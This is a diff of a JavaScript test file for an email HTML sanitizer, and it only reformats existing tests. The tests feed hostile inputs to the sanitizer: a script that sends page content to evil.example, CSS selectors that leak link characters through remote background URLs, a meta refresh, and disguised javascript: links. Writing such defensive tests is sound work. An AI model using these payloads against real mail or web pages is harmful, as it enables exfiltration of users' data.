@@ -54,7 +54,7 @@ describe('what a sender writes around our link does not get it', () => {
     ['a declaration left open', '<!x '],
     ['plain text', '<plaintext>'],
     ['xmp', '<xmp>'],
-    ['a frame', '<iframe srcdoc=\''],
+    ['a frame', "<iframe srcdoc='"],
     ['a refresh left open', '<meta http-equiv="refresh" content=\'0;url=https://evil.example/?x='],
     ['a script left open', '<script>fetch("https://evil.example/"+document.body.innerHTML)//'],
     ['a style sheet left open', '<style>a{background:url(https://evil.example/'],
@@ -80,22 +80,55 @@ describe('what a sender writes around our link does not get it', () => {
   })
 
   test('no rule of a style sheet can read an attribute or load anything', () => {
-    const probes = [...'ABCDEF'].map(letter => `a[href^="https://n.example/n/${letter}"]{background:url(https://evil.example/${letter})}`)
+    const probes = [...'ABCDEF'].map(
+      letter => `a[href^="https://n.example/n/${letter}"]{background:url(https://evil.example/${letter})}`,
+    )
     const html = enclose(`<style>@import "https://evil.example/x.css";${probes.join('')} p{color:red}</style><p>Oi</p>`)
     expect(html).toContain('<style>p{color:red}</style>')
     expect(html).not.toContain('evil.example')
   })
 
   test('an address whose beginning is disguised is left out', () => {
-    expect(enclose('<a href="jav&#97;script:alert(1)">x</a><a href=" javascript:1">y</a><img src="data:image/svg+xml,x">')).not.toMatch(
-      /script:|svg/,
-    )
+    expect(
+      enclose('<a href="jav&#97;script:alert(1)">x</a><a href=" javascript:1">y</a><img src="data:image/svg+xml,x">'),
+    ).not.toMatch(/script:|svg/)
   })
 
   test('whatever the content', () => {
     const piece = fc.constantFrom(
-      ...['<', '>', '"', "'", '=', '/', ' ', '<!--', '-->', '<a href=', '<img src=', '<style>', '</style>', '<textarea>', '<title>'],
-      ...['<svg>', '</p>', '<p>', '<td>', '</table>', '<body>', '</body>', '<![CDATA[', '<script>', '</script>', 'x', '&', '<b', '`'],
+      ...[
+        '<',
+        '>',
+        '"',
+        "'",
+        '=',
+        '/',
+        ' ',
+        '<!--',
+        '-->',
+        '<a href=',
+        '<img src=',
+        '<style>',
+        '</style>',
+        '<textarea>',
+        '<title>',
+      ],
+      ...[
+        '<svg>',
+        '</p>',
+        '<p>',
+        '<td>',
+        '</table>',
+        '<body>',
+        '</body>',
+        '<![CDATA[',
+        '<script>',
+        '</script>',
+        'x',
+        '&',
+        '<b',
+        '`',
+      ],
     )
     fc.assert(
       fc.property(fc.array(piece, { maxLength: 40 }), pieces => expectApart(enclose(pieces.join('')))),
@@ -110,8 +143,12 @@ describe('an honest message stays as it was', () => {
 <body bgcolor="#eeeeee" style="margin:0"><table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>
 <td><img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table><ul><li>um<li>dois</ul><p style="color:red">Fim</body></html>`
     const html = enclose(content)
-    expect(html).toContain('<head><meta charset="utf-8"><style>.b{color:#222}</style></head><body bgcolor="#eeeeee" style="margin:0">')
-    expect(html).toContain('<table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>')
+    expect(html).toContain(
+      '<head><meta charset="utf-8"><style>.b{color:#222}</style></head><body bgcolor="#eeeeee" style="margin:0">',
+    )
+    expect(html).toContain(
+      '<table width="600" cellpadding="0"><tr><td class="b" align="center">Olá, <b>Maria</b> &amp; cia.</td>',
+    )
     expect(html).toContain('<img src="https://acme.example/l.png" alt="Acme" width="10"><br></td></tr></table>')
     expect(html).toContain('<ul><li>um</li><li>dois</li></ul><p style="color:red">Fim')
     expectApart(html)
@@ -133,6 +170,19 @@ describe('an honest message stays as it was', () => {
 })
 
 test('a megabyte of the worst content is read in one pass', () => {
-  for (const piece of ['<b>', '<b></i>', '<p>', '<table>', '<td>', '<a href="', '</b>', '<!--', '<style>', '<svg>', '&', '<b a=1 '])
+  for (const piece of [
+    '<b>',
+    '<b></i>',
+    '<p>',
+    '<table>',
+    '<td>',
+    '<a href="',
+    '</b>',
+    '<!--',
+    '<style>',
+    '<svg>',
+    '&',
+    '<b a=1 ',
+  ])
     readSenderHtml(piece.repeat(Math.floor(1_048_576 / piece.length)))
 })
